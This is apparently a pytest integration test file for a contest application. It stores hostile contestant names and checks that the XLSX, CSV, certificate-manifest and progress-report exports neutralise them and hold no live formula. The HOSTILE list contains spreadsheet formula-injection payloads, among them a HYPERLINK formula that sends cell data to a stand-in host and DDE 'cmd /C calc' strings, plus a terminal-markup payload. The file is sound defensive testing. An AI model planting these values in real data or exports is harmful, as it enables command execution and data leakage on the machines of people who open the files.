"""Spreadsheet formula injection: no export carries a live formula from stored text.

Names such as `=HYPERLINK("http://x"&D2,"x")` can no longer be registered, but older data (or a name stored
before the rule) must still come out harmless. The hostile names are written straight through the
repository, the week is closed with the real CLI, and every cell of every private file is read back:
XLSX with openpyxl (no formula cell, every dangerous text starts with the neutraliser) and CSV with the
csv module (same rule), plus the certificates' manifest and the progress report.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from contest.cli import app as cli
from contest.rules.cells import NEUTRALISER
from contest.rules.model import Account
from contest.rules.passwords import DUMMY_HASH
from contest.rules.phones import mask
from contest.store.keys import shard_of, standing_pk, unit_week_index_pk
from contest.store.tables import StandingItem
from tests.integration.conftest import *  # noqa: F403 (its moto fixtures: aws, env, repo, api, sender, clock)
from tests.support import PHONES, WEEK1_RESULTS, e164, unit

HYPERLINK = '=HYPERLINK("http://x"&D2,"x")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
CONSOLE_MARKUP = "[link=http://x]Bấm vào[/link] [red]An"  # harmless in a spreadsheet, not in a rich terminal
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CLOSED = (WEEK1_RESULTS + timedelta(seconds=1)).isoformat()


def dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(TRIGGERS) or text.startswith(TRIGGERS)


@pytest.fixture
def stored(repo):
    """Hostile names stored as if registered before the rule, each with a week-1 standing (top scores)."""
    people = []
    with StandingItem.batch_write() as batch:
        for k, name in enumerate(HOSTILE + [f"Người Thường {i}" for i in range(6)] + [CONSOLE_MARKUP]):
            account = Account(f"old-{k:02d}", e164(PHONES[k]), name, unit("so-tttt"), DUMMY_HASH, True, False, 0, 1)
            repo.accounts.create_account(account, consent_at_ms=0, consent_version="1", code=None, code_ttl_s=60)
            people.append(account)
            batch.save(
                StandingItem(
                    pk=standing_pk(1, shard_of(account.account_id)),
                    sk=account.account_id,
                    account_id=account.account_id,
                    score=15 if k < len(HOSTILE) else 3,
                    duration_ms=100_000 + (k // 2) * 1000,  # pairs tie: the review sheet lists them too
                    prediction=5,
                    unit_id=unit("so-tttt"),
                    full_name=name,
                    phone_masked=mask(account.phone),
                    attempt_id=f"att-{k}",
                    attempts=1,
                    received_at_ms=0,
                    gsi1pk=unit_week_index_pk(1, unit("so-tttt")),
                    gsi1sk=account.account_id,
                )
            )
    return people


@pytest.fixture
def closed(stored, env, monkeypatch):
    monkeypatch.setenv("CONTEST_CLOCK", CLOSED)
    result = CliRunner().invoke(cli, ["close-week", "--week", "1", "--aws"], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return Path(env["CONTEST_PRIVATE_DIR"]) / "reports"


def check_workbook(data: bytes) -> list[str]:
    """Every text cell of every sheet: no formula, nothing dangerous unneutralised. Returns the texts."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not dangerous(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    # and no formula element anywhere in the sheets' XML
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for entry in z.namelist():
            if entry.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(entry) and b"<f " not in z.read(entry), entry
    return texts


def check_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not dangerous(value), value
    return rows


def test_the_close_reports_hold_no_live_formula(closed, stored):
    # Given hostile names stored in the week's standings, and the week closed by the real CLI
    week = closed / "week-1"
    # When the organisers open the private workbook
    texts = check_workbook((week / "report.xlsx").read_bytes())
    # Then each hostile name is there, as text starting with the neutraliser (detail sheet and tie sheet)
    for name in HOSTILE:  # (an XML reader turns CR into LF)
        assert NEUTRALISER + name.replace("\r", "\n") in texts, name
    assert texts.count(NEUTRALISER + HYPERLINK) >= 2  # the detail sheet and the tie sheet
    # And the full standings CSV holds them the same way; numbers stay unquoted numbers
    raw = (week / "standings.csv").read_bytes()
    rows = check_csv(raw)
    names = [r[3] for r in rows[1:]]
    assert {NEUTRALISER + n for n in HOSTILE} <= set(names)
    assert "Người Thường 0" in names
    first = raw.decode("utf-8-sig").splitlines()[1]
    assert first.startswith("1,") and ",15," in first  # rank and score are bare numbers
    check_csv((week / "units.csv").read_bytes())


def test_the_certificates_manifest_holds_no_live_formula(closed, stored, env, tmp_path, monkeypatch):
    # Given the week closed with hostile names among the winners
    from contest.adapters.publisher import publisher_for

    store = publisher_for(
        public_bucket=None,
        private_bucket=None,
        publish_dir=Path(env["CONTEST_PUBLISH_DIR"]),
        private_dir=Path(env["CONTEST_PRIVATE_DIR"]),
    )
    published = json.loads(store.read_public("week-1.json"))
    awarded = {e["name"] for p in published["prizes"] for e in p["awarded"]}
    assert awarded & set(HOSTILE)
    # When the certificates are made
    out = tmp_path / "giấy"
    made = CliRunner().invoke(cli, ["certificates", "--week", "1", "--out", str(out), "--aws"])
    assert made.exit_code == 0, made.output
    # Then the manifest lists the winners as text, never as a formula
    rows = check_csv((out / "danh-sach.csv").read_bytes())
    recipients = {r[2] for r in rows[1:]}
    assert {NEUTRALISER + n for n in awarded & set(HOSTILE)} <= recipients


def test_the_progress_report_holds_no_live_formula(repo, env, tmp_path, monkeypatch):
    # Given a unit whose name (from the organisers' content) starts like a formula
    from contest.content.loader import bundle_of
    from tests.support import make_content

    raw_units = make_content().raw["units"]
    first = raw_units["units"][0] if isinstance(raw_units, dict) else raw_units[0]
    first["name"] = HYPERLINK
    repo.bundle.save_bundle(bundle_of(make_content_from(raw_units)))
    # When the progress report is written
    target = tmp_path / "tiến-độ.xlsx"
    result = CliRunner().invoke(cli, ["report", "--week", "1", "--xlsx", str(target), "--aws"])
    assert result.exit_code == 0, result.output
    # Then the unit's name is a neutralised text cell
    assert NEUTRALISER + HYPERLINK in check_workbook(target.read_bytes())


def make_content_from(raw_units):
    from contest.content.loader import Content, parse_units
    from tests.support import make_content

    base = make_content()
    groups, units = parse_units(raw_units)
    return Content(base.contest, groups, units, base.bank, raw={"contest": base.raw["contest"], "units": raw_units})


def test_the_committee_sees_stored_names_as_text_in_the_terminal(closed, stored):
    # Given the week closed with a stored name holding console markup, tied with another contestant
    # When the committee lists the tie groups
    result = CliRunner().invoke(cli, ["committee", "groups", "--week", "1", "--aws"], env={"COLUMNS": "250"})
    # Then the name is printed as typed (no hidden link, no colour swallowing the text)
    assert result.exit_code == 0, result.output
    assert CONSOLE_MARKUP in result.output
